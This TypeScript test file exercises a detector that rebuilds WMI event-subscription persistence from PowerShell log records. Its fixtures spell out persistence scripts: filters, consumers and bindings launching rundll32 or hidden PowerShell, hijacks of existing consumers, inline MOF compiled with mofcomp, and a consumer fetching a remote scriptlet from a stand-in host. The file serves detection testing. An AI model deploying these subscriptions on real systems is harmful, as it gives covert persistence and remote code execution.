/**
 * More PowerShell shapes rebuilt into subscription objects (events/powershell.ts): the object model
 * (`[wmiclass]…CreateInstance()`, System.Management `ManagementClass`, `Get-WmiObject -List`, property assignments and
 * `Put()`), `Invoke-WmiMethod` / `Set-CimInstance` / `New-CimInstance -CimClass`, temporary subscriptions
 * (`Register-WmiEvent`, `Register-CimIndicationEvent`), inline MOF compiled with mofcomp. The script blocks are written
 * here from the cmdlets' and classes' documented parameters and members, not copied from any tool.
 * End to end, a 4104 record in the EVTX JSON shape is scanned from a temporary file.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan } from '../src/scan.js';
import { undecodedCommands } from '../src/analysis/decode.js';
import { parseMofInstances, powershellReconstructed, reconstructFromScript, temporaryFromBindings, temporaryFromScript } from '../src/events/index.js';
import type { ScanResult } from '../src/model/types.js';
import { evtxSample, skipReason } from './support/samples.js';

/** Scan one PowerShell 4104 record holding `script` (EVTX JSON shape, one line). */
async function scanScript(script: string): Promise<ScanResult> {
  const dir = mkdtempSync(join(tmpdir(), 'wmiscope-ps-'));
  try {
    const rec = {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
          EventID: 4104,
          EventRecordID: 7,
          Channel: 'Microsoft-Windows-PowerShell/Operational',
          Computer: 'ws01.corp.lan',
          TimeCreated: { '#attributes': { SystemTime: '2026-01-02T03:04:05.0000000Z' } },
          Security: { '#attributes': { UserID: 'S-1-5-21-1-2-3-1001' } },
          Execution: { '#attributes': { ProcessID: 4242, ThreadID: 4300 } },
        },
        EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: script, ScriptBlockId: '0f6c3b1e-1111-2222-3333-444455556666', Path: '' },
      },
    };
    writeFileSync(join(dir, 'ps.json'), JSON.stringify(rec) + '\n');
    return await scan([join(dir, 'ps.json')], { threads: 1 });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const OBJECT_MODEL = String.raw`$filterClass = [wmiclass]'\\.\root\subscription:__EventFilter'
$filter = $filterClass.CreateInstance()
$filter.Name = 'UpdaterFilter'
$filter.QueryLanguage = 'WQL'
$filter.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
$filter.EventNamespace = 'root\cimv2'
$filterPath = $filter.Put()
$consumer = ([wmiclass]"\\.\root\subscription:CommandLineEventConsumer").CreateInstance()
$consumer.Name = 'UpdaterConsumer'
$consumer.CommandLineTemplate = 'C:\Windows\System32\rundll32.exe C:\Users\Public\upd.dll,Start'
[void]$consumer.Put()
$binding = (New-Object System.Management.ManagementClass('root\subscription', '__FilterToConsumerBinding', $null)).CreateInstance()
$binding['Filter'] = $filterPath
$binding.Properties['Consumer'].Value = $consumer.__PATH
$binding.Put() | Out-Null
$draft = ([wmiclass]'root\subscription:ActiveScriptEventConsumer').CreateInstance()
$draft.Name = 'NeverSaved'
$draft.ScriptText = 'x'
`;

test('[wmiclass] / ManagementClass CreateInstance(): assigned properties as committed by Put(), references to Put() objects are their paths', () => {
  const out = reconstructFromScript(OBJECT_MODEL);
  const f = out.find((o) => o.part === 'filter')!;
  assert.deepEqual([f.className, f.namespace, f.name, f.technique, f.computed, f.uncommitted], ['__EventFilter', 'ROOT\\subscription', 'UpdaterFilter', '[wmiclass] CreateInstance()', [], undefined]);
  assert.equal(f.properties['Query'], "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'");
  assert.equal(f.properties['EventNamespace'], 'root\\cimv2'); // single quotes: no escapes
  const c = out.find((o) => o.part === 'consumer' && o.name === 'UpdaterConsumer')!;
  assert.equal(c.properties['CommandLineTemplate'], 'C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\upd.dll,Start');
  const b = out.find((o) => o.part === 'binding')!;
  assert.deepEqual([b.technique, b.properties, b.computed], ['System.Management ManagementClass CreateInstance()', { Filter: '__EventFilter.Name="UpdaterFilter"', Consumer: 'CommandLineEventConsumer.Name="UpdaterConsumer"' }, []]);
  // built and never Put(): not created, and said so
  const d = out.find((o) => o.name === 'NeverSaved')!;
  assert.equal(d.className, 'ActiveScriptEventConsumer');
  assert.match(d.uncommitted ?? '', /never Put\(\)/);
});

test('object model: Get-WmiObject -List, [ManagementClass]::new, SetPropertyValue, properties set after the last Put() are not created, computed values', () => {
  const script = String.raw`$cls = Get-WmiObject -Namespace root\subscription -Class __EventFilter -List
$f = $cls.CreateInstance()
$f.SetPropertyValue('Name', 'Second')
$f.SetPropertyValue('Query', $q)
$f.psbase.Put()
$f.Name = 'Renamed'
$cc = [System.Management.ManagementClass]::new('\\.\ROOT\subscription:ActiveScriptEventConsumer')
$c = $cc.CreateInstance()
$c.Properties['Name'].Value = "Second"
$c.Properties.Item('ScriptingEngine').Value = 'JScript'
$c['ScriptText'] = "new ActiveXObject('WScript.Shell').Run('calc.exe')"
$null = $c.Put()
$x = ([wmiclass]"\\$env:COMPUTERNAME\root\subscription:__EventFilter").CreateInstance()
$x.Name = 'Remote'
$x.Put()
$w = ([wmiclass]'Win32_Process').CreateInstance()
$w.Put()
`;
  const out = reconstructFromScript(script);
  const f = out.find((o) => o.name === 'Second' && o.part === 'filter')!;
  assert.deepEqual([f.technique, f.namespace, f.properties, f.computed], ['Get-WmiObject -List CreateInstance()', 'ROOT\\subscription', { Name: 'Second' }, ['Query']]);
  const c = out.find((o) => o.part === 'consumer')!;
  assert.deepEqual([c.technique, c.className, c.namespace, c.name, c.properties['ScriptingEngine'], c.properties['ScriptText']], ['System.Management ManagementClass CreateInstance()', 'ActiveScriptEventConsumer', 'ROOT\\subscription', 'Second', 'JScript', "new ActiveXObject('WScript.Shell').Run('calc.exe')"]);
  // a class path that expands a variable: neither class nor namespace is known, nothing is made of it
  assert.equal(out.find((o) => o.name === 'Remote'), undefined);
  // a class that is not a subscription class gives nothing
  assert.equal(out.length, 2, JSON.stringify(out));
});

test('scan: the object-model script is one critical finding with its names and payload; the object never Put() makes none', async () => {
  const r = await scanScript(OBJECT_MODEL);
  assert.equal(r.findings.length, 1, r.findings.map((f) => f.summary).join(' | '));
  const f = r.findings[0]!;
  assert.deepEqual([f.host, f.filter?.name, f.consumer?.name, f.consumer?.className], ['ws01.corp.lan', 'UpdaterFilter', 'UpdaterConsumer', 'CommandLineEventConsumer']);
  assert.ok(f.binding);
  assert.deepEqual(f.observations.map((o) => `${o.action} ${o.part}`).sort(), ['created binding', 'created consumer', 'created filter']);
  assert.ok(f.severity === 'high' || f.severity === 'critical', f.severity);
});

const CIM_AND_SET = String.raw`$fc = Get-CimClass -Namespace root/subscription -ClassName __EventFilter
New-CimInstance -CimClass $fc -Property @{Name='CimF'; EventNamespace='root/cimv2'; QueryLanguage='WQL'; Query='SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "Win32_LogonSession"'}
$cc = New-CimInstance -CimClass (Get-CimClass -Namespace root/subscription -ClassName CommandLineEventConsumer) -Property @{Name='CimC'; CommandLineTemplate='powershell.exe -nop -w hidden -file C:\ProgramData\a.ps1'} -ClientOnly
Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Filter "Name='SCM Event Log Consumer'" | Set-CimInstance -Property @{CommandLineTemplate='C:\Users\Public\b.exe'}
$old = Get-WmiObject -Namespace root\subscription -Class ActiveScriptEventConsumer -Filter "Name = 'Legit'"
Set-WmiInstance -InputObject $old -Arguments @{ScriptText='GetObject("script:https://x.example/a.sct")'}
Set-CimInstance -Namespace root/subscription -Query "SELECT * FROM __EventFilter WHERE Name='Boot'" -Property @{Query='SELECT * FROM __InstanceModificationEvent WITHIN 60'}
Set-WmiInstance -Path '\\.\root\subscription:CommandLineEventConsumer.Name="ByPath"' -Arguments @{CommandLineTemplate='calc.exe'}
Set-CimInstance -InputObject $unknown -Property @{CommandLineTemplate='x'}
Invoke-WmiMethod -Namespace root\subscription -Class __EventFilter -Name Delete
`;

test('New-CimInstance -CimClass / -ClientOnly, Set-CimInstance and Set-WmiInstance on selected instances, Set-WmiInstance -Path', () => {
  const out = reconstructFromScript(CIM_AND_SET);
  const by = (n: string) => out.find((o) => o.name === n)!;
  assert.deepEqual([by('CimF').technique, by('CimF').namespace, by('CimF').properties['EventNamespace'], by('CimF').uncommitted], ['New-CimInstance -CimClass', 'ROOT\\subscription', 'root/cimv2', undefined]);
  // -ClientOnly: built in memory only
  assert.match(by('CimC').uncommitted ?? '', /-ClientOnly/);
  assert.equal(by('CimC').className, 'CommandLineEventConsumer');
  // a piped Get-CimInstance -Filter, -InputObject of a Get-WmiObject variable, -Query: the named instance is modified
  const scm = by('SCM Event Log Consumer');
  assert.deepEqual([scm.part, scm.className, scm.modifies, scm.properties, scm.technique], ['consumer', 'CommandLineEventConsumer', true, { CommandLineTemplate: 'C:\\Users\\Public\\b.exe' }, 'Set-CimInstance on an existing instance']);
  assert.deepEqual([by('Legit').className, by('Legit').modifies, by('Legit').properties['ScriptText']], ['ActiveScriptEventConsumer', true, 'GetObject("script:https://x.example/a.sct")']);
  assert.deepEqual([by('Boot').part, by('Boot').modifies, by('Boot').properties['Query']], ['filter', true, 'SELECT * FROM __InstanceModificationEvent WITHIN 60']);
  // -Path puts the instance (creates or updates it)
  assert.deepEqual([by('ByPath').technique, by('ByPath').modifies, by('ByPath').namespace, by('ByPath').properties], ['Set-WmiInstance -Path', undefined, 'ROOT\\subscription', { CommandLineTemplate: 'calc.exe' }]);
  // Set-CimInstance on an instance the text does not show, Invoke-WmiMethod (subscription classes have no method that creates one): nothing
  assert.equal(out.length, 6, JSON.stringify(out.map((o) => o.name)));
});

test('scan: Set-CimInstance on an existing consumer is a modified observation; a -ClientOnly consumer makes no finding', async () => {
  const r = await scanScript(CIM_AND_SET);
  const names = r.findings.map((f) => f.consumer?.name ?? f.filter?.name).sort();
  assert.deepEqual(names, ['Boot', 'ByPath', 'CimF', 'Legit', 'SCM Event Log Consumer']);
  const scm = r.findings.find((f) => f.consumer?.name === 'SCM Event Log Consumer')!;
  assert.deepEqual(scm.observations.map((o) => o.action), ['modified']);
  assert.equal(scm.consumer?.values['CommandLineTemplate'], 'C:\\Users\\Public\\b.exe');
});

test('hostile: many unterminated class expressions, selections and assignments are read in bounded work with bounded output', () => {
  const unterminated = '$a = [wmiclass]"\\\\.\\root\\subscription:__EventFilter\n'.repeat(5_000) + '$b = Get-WmiObject -List -Class "x\n'.repeat(5_000);
  const piped = 'Get-CimInstance -ClassName "CommandLineEventConsumer | Set-CimInstance -Property @{A=1}\n'.repeat(5_000);
  const objects = "$o = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n$o.Name = 'n'\n$o.Put()\n".repeat(5_000);
  const props = "$o = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n" + Array.from({ length: 20_000 }, (_, i) => `$o.P${i} = 'v'\n`).join('') + '$o.Put()';
  for (const s of [unterminated, piped, objects, props]) {
    const out = reconstructFromScript(s);
    assert.ok(out.length <= 64 * 3, `${out.length} objects`);
    for (const o of out) assert.ok(Object.keys(o.properties).length + o.computed.length <= 64 + 2);
  }
  assert.ok(reconstructFromScript(objects).length > 0, 'the literal objects inside the limits are read');
  // a long ordinary script (casts, queries that list no class) before the object model does not use up the budget
  const ordinary = Array.from({ length: 300 }, (_, i) => `$n${i} = [int]'${i}'\n$p${i} = Get-WmiObject -Class Win32_Process -Filter "ProcessId=${i}"\n`).join('');
  assert.deepEqual(reconstructFromScript(ordinary + OBJECT_MODEL).map((o) => o.name), ['UpdaterFilter', 'UpdaterConsumer', null, 'NeverSaved']);
});

test('Register-WmiEvent / Register-CimIndicationEvent: temporary subscriptions read from their literal arguments', () => {
  const script = String.raw`Register-WmiEvent -Query "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'" -SourceIdentifier ProcWatch -Action { Write-Host $Event.SourceEventArgs.NewEvent.TargetInstance.Name }
Register-CimIndicationEvent -Namespace root/cimv2 -ClassName Win32_ProcessStartTrace -SourceIdentifier 'StartTrace'
Register-WmiEvent Win32_VolumeChangeEvent UsbWatch -Action $handler
Register-WmiEvent -Query $q`;
  const out = temporaryFromScript(script);
  assert.deepEqual(out[0], { technique: 'Register-WmiEvent', query: "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'", namespace: 'root\\cimv2', sourceIdentifier: 'ProcWatch', action: 'Write-Host $Event.SourceEventArgs.NewEvent.TargetInstance.Name' });
  assert.deepEqual(out[1], { technique: 'Register-CimIndicationEvent', query: 'SELECT * FROM Win32_ProcessStartTrace', namespace: 'root/cimv2', sourceIdentifier: 'StartTrace', action: null });
  assert.deepEqual([out[2]!.query, out[2]!.sourceIdentifier, out[2]!.action], ['SELECT * FROM Win32_VolumeChangeEvent', 'UsbWatch', null]);
  assert.deepEqual([out[3]!.query, out[3]!.sourceIdentifier], [null, null]);
  // nothing permanent is rebuilt from them
  assert.deepEqual(reconstructFromScript(script), []);
});

test('scan: a temporary subscription alone is no finding; beside a permanent one made by the same session it joins that finding, marked temporary', async () => {
  const watch = "Register-WmiEvent -Query \"SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA '__EventConsumer'\" -SourceIdentifier ConsumerWatch -Action { Write-Host 'new consumer' }";
  assert.equal((await scanScript(watch)).findings.length, 0);
  const r = await scanScript(`${watch}\n${OBJECT_MODEL}`);
  assert.equal(r.findings.length, 1);
  const t = r.findings[0]!.observations.filter((o) => o.meta['temporary'] !== undefined);
  assert.equal(t.length, 1);
  assert.deepEqual([t[0]!.action, t[0]!.part, t[0]!.meta['technique'], t[0]!.meta['SourceIdentifier'], t[0]!.meta['processId']], ['mentioned', null, 'Register-WmiEvent', 'ConsumerWatch', 4242]);
  assert.match(String(t[0]!.meta['temporary']), /temporary subscription: lives only in the PowerShell session that registered it \(process 4242\)/);
});

const MOF_SCRIPT = String.raw`$mof = @'
#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $Filt
{
    Name = "MofFilter";
    EventNamespace = "root\\cimv2";
    QueryLanguage = "WQL";
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_PerfFormattedData_PerfOS_System\" AND TargetInstance.SystemUpTime >= 240";
};
instance of ActiveScriptEventConsumer as $Cons
{
    Name = "MofConsumer";
    ScriptingEngine = "VBScript";
    ScriptText = "CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\", 0";
    KillTimeout = 0;
};
instance of __FilterToConsumerBinding
{
    Filter = $Filt;
    Consumer = $Cons;
};
'@
$mof | Out-File -FilePath C:\Windows\Temp\wmi.mof -Encoding ascii
mofcomp.exe C:\Windows\Temp\wmi.mof
`;

test('parseMofInstances: #pragma namespace, `as $Alias` and alias references as object paths', () => {
  const text = String.raw`#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $F { Name = "a\"b"; Query = "SELECT * FROM __TimerEvent"; };
instance of CommandLineEventConsumer as $C { CommandLineTemplate = "x"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; Other = $Nowhere; DeliverSynchronously = FALSE; };`;
  const [f, c, b] = parseMofInstances(text);
  assert.deepEqual(f, { className: '__EventFilter', properties: { Name: 'a"b', Query: 'SELECT * FROM __TimerEvent' }, namespace: '\\\\.\\root\\subscription', alias: 'F' });
  assert.equal(c!.alias, 'C');
  // $C has no Name: its path is not known; an alias never declared is null; the properties after them are still read
  assert.deepEqual(b!.properties, { Filter: '__EventFilter.Name="a\\"b"', Consumer: null, Other: null, DeliverSynchronously: false });
  assert.equal(b!.alias, undefined);
});

test('inline MOF written to a file and compiled with mofcomp: filter, consumer and binding in the pragma namespace', () => {
  const out = reconstructFromScript(MOF_SCRIPT);
  assert.deepEqual(out.map((o) => [o.part, o.className, o.namespace, o.name, o.technique]), [
    ['filter', '__EventFilter', 'ROOT\\subscription', 'MofFilter', 'mofcomp (inline MOF)'],
    ['consumer', 'ActiveScriptEventConsumer', 'ROOT\\subscription', 'MofConsumer', 'mofcomp (inline MOF)'],
    ['binding', '__FilterToConsumerBinding', 'ROOT\\subscription', null, 'mofcomp (inline MOF)'],
  ]);
  assert.equal(out[0]!.properties['EventNamespace'], 'root\\cimv2');
  assert.equal(out[1]!.properties['ScriptText'], 'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0');
  assert.equal(out[1]!.properties['KillTimeout'], '0');
  assert.deepEqual(out[2]!.properties, { Filter: '__EventFilter.Name="MofFilter"', Consumer: 'ActiveScriptEventConsumer.Name="MofConsumer"' });
  // other writers; -N: is the namespace when the file has no pragma; root\default otherwise
  const body = "instance of CommandLineEventConsumer { Name = \"N\"; CommandLineTemplate = \"calc.exe\"; };";
  const alt = [
    `$t = '${body}'`,
    "[System.IO.File]::WriteAllText('C:\\ProgramData\\b.mof', $t)",
    "& 'mofcomp.exe' -N:root\\subscription 'C:\\ProgramData\\b.mof'",
    `Set-Content -Path 'C:\\ProgramData\\c.mof' -Value '${body}'`,
    'mofcomp C:\\programdata\\C.MOF',
    '$p = "$env:TEMP\\d.mof"',
    `Set-Content -Path $p -Value '${body}'`,
    'mofcomp $p',
    'mofcomp C:\\never\\written.mof',
  ].join('\n');
  assert.deepEqual(reconstructFromScript(alt).map((o) => [o.namespace, o.name, o.properties['CommandLineTemplate']]), [
    ['ROOT\\subscription', 'N', 'calc.exe'],
    ['ROOT\\default', 'N', 'calc.exe'],
  ]);
  // a file written after it is compiled was not what was compiled
  assert.deepEqual(reconstructFromScript(`mofcomp C:\\x.mof\nSet-Content C:\\x.mof '${body}'`), []);
});

test('scan: inline MOF compiled with mofcomp is one finding with its names and script', async () => {
  const r = await scanScript(MOF_SCRIPT);
  assert.equal(r.findings.length, 1);
  const f = r.findings[0]!;
  assert.deepEqual([f.filter?.name, f.consumer?.name, f.consumer?.className, f.namespace], ['MofFilter', 'MofConsumer', 'ActiveScriptEventConsumer', 'ROOT\\subscription']);
  assert.ok(f.observations.every((o) => o.meta['technique'] === 'mofcomp (inline MOF)'));
});

test('hostile: MOF with thousands of instances and aliases, unterminated strings, writes and mofcomp calls: bounded', () => {
  const inst = 'instance of CommandLineEventConsumer as $A { Name = "n"; CommandLineTemplate = $A; Filter = $B; };\n'.repeat(20_000);
  const big = `$m = '${inst.replace(/'/g, "''")}'\n` + "Set-Content C:\\m.mof $m\nmofcomp C:\\m.mof\n".repeat(2_000);
  const broken = "Set-Content C:\\m.mof 'instance of __EventFilter { Name = \"unterminated\n".repeat(3_000) + 'mofcomp C:\\m.mof\n'.repeat(3_000);
  for (const s of [big, broken]) {
    const out = reconstructFromScript(s);
    assert.ok(out.length <= 4 * 64, `${out.length} objects`);
  }
  assert.ok(parseMofInstances(inst).length === 20_000);
});

test('an -EncodedCommand argument that does not decode still fires the encoded-command reason, saying so', async () => {
  assert.deepEqual(undecodedCommands('powershell.exe -nop -w hidden -enc $payload'), [{ via: '-enc', encoded: '$payload', why: 'a variable: computed at run time' }]);
  assert.deepEqual(undecodedCommands('pwsh -e "JABjAGwAaQBlAG4AdAAgAD0A!!"').map((u) => u.why), ['not base64']);
  assert.deepEqual(undecodedCommands('powershell /EncodedCommand 3q2+7wGfM3cSgP/+').map((u) => [u.via, u.why]), [['/EncodedCommand', 'not UTF-16LE text']]);
  // a decodable argument, another parameter, -ExecutionPolicy, not PowerShell: none
  assert.deepEqual(undecodedCommands(`powershell -enc ${Buffer.from('Write-Host 1', 'utf16le').toString('base64')}`), []);
  assert.deepEqual(undecodedCommands('powershell -enc -nop'), []);
  assert.deepEqual(undecodedCommands('powershell -ep bypass -file a.ps1'), []);
  assert.deepEqual(undecodedCommands('foo.exe -e $x'), []);
  const r = await scanScript(
    "Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{Name='Enc'; CommandLineTemplate='powershell.exe -NoP -W Hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG9ye!'}",
  );
  const f = r.findings.find((x) => x.consumer?.name === 'Enc')!;
  const reason = f.reasons.find((x) => x.id === 'payload-encoded-command');
  assert.ok(reason, f.reasons.map((x) => x.id).join(','));
  assert.match(reason.evidence, /^-enc JABzAD0ATgBlAHcALQBPAGI… does not decode \(not base64\)$/);
});

test('[wmi] / ManagementObject bound by its path: a Put() modifies that object; without Put() the change is in memory only', () => {
  const out = reconstructFromScript(String.raw`$c = [wmi]'\\.\root\subscription:CommandLineEventConsumer.Name="SCM Event Log Consumer"'
$c.CommandLineTemplate = 'C:\Users\Public\x.exe'
$c.Put()
$f = New-Object System.Management.ManagementObject('root\subscription', '__EventFilter.Name="BVTFilter"', $null)
$f.Query = 'SELECT * FROM __InstanceModificationEvent WITHIN 60'
$b = ([wmiclass]'root\subscription:__FilterToConsumerBinding').CreateInstance()
$b.Filter = $f.__PATH
$b.Consumer = $c.Path.Path
$b.Put()`);
  const c = out.find((o) => o.part === 'consumer')!;
  assert.deepEqual([c.name, c.namespace, c.technique, c.modifies, c.uncommitted, c.properties], ['SCM Event Log Consumer', 'ROOT\\subscription', '[wmi] (an existing instance)', true, undefined, { CommandLineTemplate: 'C:\\Users\\Public\\x.exe' }]);
  const f = out.find((o) => o.part === 'filter')!;
  assert.deepEqual([f.name, f.technique, f.modifies], ['BVTFilter', 'System.Management ManagementObject (an existing instance)', true]);
  assert.match(f.uncommitted ?? '', /changes in memory only/);
  // the paths of bound objects are known from their own paths
  assert.deepEqual(out.find((o) => o.part === 'binding')!.properties, { Filter: '__EventFilter.Name="BVTFilter"', Consumer: 'CommandLineEventConsumer.Name="SCM Event Log Consumer"' });
});

test('real 4104 script blocks full of PowerShell (Invoke-Obfuscation, with -Enc handling, New-Object, here-strings): no subscription is rebuilt', { skip: skipReason }, async () => {
  // hayabusa-sample-evtx: 4104 records of a large module loaded into a session, none of which touches WMI
  const r = await scan([evtxSample('hayabusa-sample-evtx/Powershell-Invoke-Obfuscation-many.evtx')], { threads: 1 });
  assert.deepEqual(r.findings.map((f) => f.summary), []);
});

test('4103 ParameterBinding lines of Register-WmiEvent are a temporary subscription; Set-WmiInstance -PutType UpdateOnly modifies', () => {
  const payload = [
    'CommandInvocation(Register-WmiEvent): "Register-WmiEvent"',
    'ParameterBinding(Register-WmiEvent): name="Query"; value="SELECT * FROM Win32_ProcessStartTrace"',
    'ParameterBinding(Register-WmiEvent): name="SourceIdentifier"; value="PS"',
    'ParameterBinding(Register-WmiEvent): name="Action"; value=" Start-Process calc.exe "',
  ].join('\r\n');
  assert.deepEqual(temporaryFromBindings(payload), [{ technique: 'Register-WmiEvent', query: 'SELECT * FROM Win32_ProcessStartTrace', namespace: 'root\\cimv2', sourceIdentifier: 'PS', action: 'Start-Process calc.exe' }]);
  assert.deepEqual(temporaryFromScript(payload), []);
  assert.deepEqual(temporaryFromBindings('ParameterBinding(Register-WmiEvent): name="SourceIdentifier"; value="PS"'), []);
  const [o] = reconstructFromScript("Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -PutType UpdateOnly -Arguments @{Name='Upd'; CommandLineTemplate='x.exe'}");
  assert.deepEqual([o!.name, o!.modifies], ['Upd', true]);
});

test('a record keeps a committed object beside an uncommitted one of the same values (neither hides the other)', () => {
  const script = "$a = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n$a.Name = 'Twice'\n$b = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n$b.Name = 'Twice'\n$b.Put()";
  const rec = { Event: { System: { EventID: 4104 }, EventData: { ScriptBlockText: script } } };
  assert.deepEqual(powershellReconstructed(rec).map((o) => o.uncommitted === undefined), [false, true]);
});
